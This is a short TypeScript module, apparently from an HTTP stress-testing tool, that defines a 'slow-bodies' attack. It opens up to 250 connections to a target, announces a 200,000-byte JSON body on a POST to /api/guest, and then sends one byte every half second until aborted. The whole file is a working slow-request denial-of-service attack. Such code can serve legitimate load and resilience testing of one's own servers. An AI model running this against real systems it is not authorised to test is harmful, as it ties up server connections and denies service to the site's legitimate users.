import type { Attack } from '../attack.ts';

/** Sends an announced body byte by byte. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  run: (target, signal) =>
    target.repeat(250, async (address) => {
      const socket = await target.connect(address);
      if (!socket) return target.pause(500);
      const { host } = new URL(target.url);
      const type = 'Content-Type: application/json\r\nContent-Length: 200000';
      socket.resume().write(`POST /api/guest HTTP/1.1\r\nHost: ${host}\r\n${type}\r\n\r\n{"name":"`);
      while (!socket.destroyed && !signal.aborted) {
        socket.write('x');
        await target.pause(500);
      }
      socket.destroy();
    }),
};
